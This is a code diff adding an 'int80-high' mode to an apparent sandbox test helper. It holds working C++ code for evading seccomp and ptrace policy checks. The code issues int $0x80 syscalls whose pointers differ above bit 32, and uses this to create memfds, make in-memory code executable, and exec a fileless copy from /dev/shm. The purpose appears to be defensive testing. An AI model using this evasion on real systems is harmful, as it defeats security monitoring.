@@ -647,6 +647,80 @@ int cmd_x32_create() {
   return fd >= 0 ? 0 : errno;
 }
 
+// int80-high MODE: i386 calls made from 64-bit code with int $0x80, each pointer argument carrying
+// a bit above 32 (HIGH = LOW + 4 GiB). The kernel's i386 handlers take the low 32 bits of each
+// register, so they act on what is at LOW; seccomp and ptrace report the whole 64. HIGH holds
+// something harmless, LOW what the policy refuses:
+//   name      memfd_create: "good" at HIGH, NAME (argv[3]) at LOW. Exits 0 if it made one, else
+//             the errno; prints link= (the memfd's /proc link).
+//   mprotect  a memfd holding code mapped read-only at LOW, then mprotect(HIGH, PROT_EXEC) and a
+//             call into it: kPayloadRan if the code ran, else the errno.
+//   exec      this program copied into an O_TMPFILE in /dev/shm, run as "payload" by
+//             execve(HIGH): "/proc/self/fd/N" at LOW, "/bin/true" at HIGH. Returns the errno.
+long int80_three(long nr, long b, long c, long d) {
+  long result;
+  asm volatile("int $0x80" : "=a"(result) : "a"(nr), "b"(b), "c"(c), "d"(d) : "memory");
+  return result;
+}
+
+int cmd_int80_high(const std::string& mode, const char* name) {
+  constexpr uintptr_t kLow = 0x30000000;
+  constexpr uintptr_t kHigh = kLow + (uintptr_t{1} << 32);
+  auto map_at = [](uintptr_t address, int prot, int flags, int fd) {
+    return ::mmap(reinterpret_cast<void*>(address), 4096, prot, flags | MAP_FIXED_NOREPLACE, fd, 0);
+  };
+  if (map_at(kHigh, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1) !=
+      reinterpret_cast<void*>(kHigh)) {
+    return 64;
+  }
+  char* high = reinterpret_cast<char*>(kHigh);
+  if (mode == "mprotect") {
+    static const unsigned char code[] = {0xb8, kPayloadRan, 0, 0, 0, 0xc3};  // mov eax, 77; ret
+    int memfd = ::memfd_create("code", MFD_CLOEXEC);
+    if (memfd < 0 || ::write(memfd, code, sizeof(code)) != sizeof(code)) return 65;
+    if (map_at(kLow, PROT_READ, MAP_SHARED, memfd) != reinterpret_cast<void*>(kLow)) return 66;
+    long changed = int80_three(125, static_cast<long>(kHigh), 4096, PROT_READ | PROT_EXEC);
+    if (changed != 0) return static_cast<int>(-changed);
+    return reinterpret_cast<int (*)()>(kLow)();
+  }
+  if (map_at(kLow, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1) !=
+      reinterpret_cast<void*>(kLow)) {
+    return 64;
+  }
+  char* low = reinterpret_cast<char*>(kLow);
+  if (mode == "name") {
+    std::strcpy(high, "good");
+    std::snprintf(low, 250, "%s", name);
+    long fd = int80_three(356, static_cast<long>(kHigh), 0, 0);  // i386 memfd_create
+    if (fd < 0) return static_cast<int>(-fd);
+    char path[64], link[256] = {};
+    std::snprintf(path, sizeof(path), "/proc/self/fd/%ld", fd);
+    ::readlink(path, link, sizeof(link) - 1);
+    std::printf("link=%s\n", link);
+    return 0;
+  }
+  // exec: argv for an i386 execve is an array of 32-bit pointers, here at LOW too.
+  int copy = ::open("/dev/shm", O_TMPFILE | O_RDWR, 0755);
+  int self = ::open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
+  if (copy < 0 || self < 0 || ::sendfile(copy, self, nullptr, 1 << 30) <= 0) return 65;
+  // Open for reading alone (a file open for writing cannot be run: ETXTBSY).
+  char path[64];
+  std::snprintf(path, sizeof(path), "/proc/self/fd/%d", copy);
+  int readable = ::open(path, O_RDONLY);
+  ::close(copy);
+  if (readable < 0) return 65;
+  std::snprintf(low, 64, "/proc/self/fd/%d", readable);
+  std::strcpy(high, "/bin/true");
+  std::strcpy(low + 256, "attack");
+  std::strcpy(low + 320, "payload");
+  auto* argv32 = reinterpret_cast<uint32_t*>(low + 512);
+  argv32[0] = static_cast<uint32_t>(kLow + 256);
+  argv32[1] = static_cast<uint32_t>(kLow + 320);
+  argv32[2] = 0;
+  long ran = int80_three(11, static_cast<long>(kHigh), static_cast<long>(kLow + 512), 0);
+  return static_cast<int>(-ran);
+}
+
 // payload: what runs from memory. 77 when this code was loaded from a memory file (the
 // program itself, or mapped by a loader such as ld.so), else 0.
 int cmd_payload() {
@@ -817,6 +891,7 @@ int main(int argc, char** argv) {
     return cmd_secret_flight(std::atol(arg(2)), std::atol(arg(3)), std::string(arg(4)) == "nested");
   }
   if (command == "x32-create") return cmd_x32_create();
+  if (command == "int80-high") return cmd_int80_high(arg(2), arg(3));
   if (command == "tamper") return cmd_tamper(arg(2), arg(3));
   if (command == "tamper-fd") return cmd_tamper_fd(std::atoi(arg(2)));
   if (command == "tamper-socket") return cmd_tamper_socket(arg(2));
